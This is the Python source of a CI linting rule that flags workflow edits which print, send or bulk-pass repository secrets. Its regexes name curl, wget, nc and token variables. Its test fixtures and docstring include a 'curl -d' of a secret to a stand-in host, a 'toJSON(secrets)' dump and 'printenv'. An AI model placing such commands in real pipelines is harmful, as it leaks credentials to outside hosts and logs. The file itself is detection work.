"""A workflow hands secrets to more than the step that needs them."""

from collections.abc import Iterator
from typing import ClassVar

from rules import gate_paths, switches
from rules.findings import Finding, Tier
from rules.patterns import pattern
from rules.rule import Diff, Edit, Rule

_ALL = rb"(?i)toJSON\(\s*secrets\s*\)|\bsecrets\[[^\]'\"]"
_SHOWN = rb"(?i)\b(?:echo|printf|curl|wget|nc|cat|tee)\b[^\n#]{0,200}(?:\$\{\{\s*secrets\.(\w+)|\$\{?(?:GITHUB_TOKEN|NPM_TOKEN|AWS_SECRET_ACCESS_KEY)\b)"
_ENVIRONMENT = rb"(?m)^\s*(?:-\s+)?(?:run:\s*)?(?:printenv|env|set|export -p)\s*(?:\||>|$)"
_INHERIT = rb"(?im)^\s*secrets:\s*[\"']?inherit\b"
_MASKS = rb"(?i)add-mask|docker login|--password-stdin|GITHUB_ENV|>>?\s*\S|base64 (?:-d|--decode)|gh auth|\|\s*(?:gpg|ssh-add|sudo tee)"


class WorkflowSecretExposed(Rule):
    """A workflow hands secrets to more than the step that needs them.

    ## What it does
    Finds commands of a pipeline that newly print or send a secret, all secrets handed over as one value, and the whole environment printed.
    `secrets: inherit` for a called workflow is a note.

    ## Why it matters
    Logs are read by many, and kept. A secret that was once printed or sent belongs to whoever saw it.

    ## Example
    `curl -d "${{ secrets.DEPLOY_KEY }}" https://...` in a step that debugs a deployment.

    ## What to do instead
    Name each secret in the `env` of the one step that needs it, and let the tool read it from there.
    """

    id, slug, tier, since = "TH514", "workflow-secret-exposed", Tier.HOLD, "0.1"
    triggers: ClassVar = (_ALL, _SHOWN, _INHERIT, _ENVIRONMENT)

    HOLDS: ClassVar = (
        Diff(".github/workflows/a.yml", "", "  - run: curl -d ${{ secrets.KEY }} https://a.example\n"),
        Diff(".github/workflows/a.yml", "", "  env:\n    ALL: ${{ toJSON(secrets) }}\n"),
        Diff(".gitlab-ci.yml", "", "script:\n  - printenv | sort\n"),
    )
    PASSES: ClassVar = (
        Diff(".github/workflows/a.yml", "", "  env:\n    KEY: ${{ secrets.KEY }}\n"),
        Diff(".github/workflows/a.yml", "", "  - run: echo ${{ secrets.KEY }} | docker login --password-stdin\n"),
        Diff("src/a.sh", "", "env | sort\n"),
    )

    def reads(self, edit: Edit) -> bool:
        return gate_paths.is_pipeline(edit.path)

    def check(self, edit: Edit) -> Iterator[Finding]:
        """New lines of pipelines only."""
        for line, _ in switches.on(edit, _ALL):
            yield self.came(edit, line.number, "all secrets of the repository are handed over at once")
        for line, _ in switches.on(edit, _SHOWN):
            if pattern(_MASKS).search(line.text) is None:
                yield self.came(edit, line.number, "a secret is printed or sent by this command")
        for line, _ in switches.on(edit, _ENVIRONMENT):
            yield self.came(edit, line.number, "the whole environment, secrets among it, is printed")
        for line, _ in switches.on(edit, _INHERIT):
            yield self.came(edit, line.number, "the called workflow gets every secret of this one", tier=Tier.NOTE)
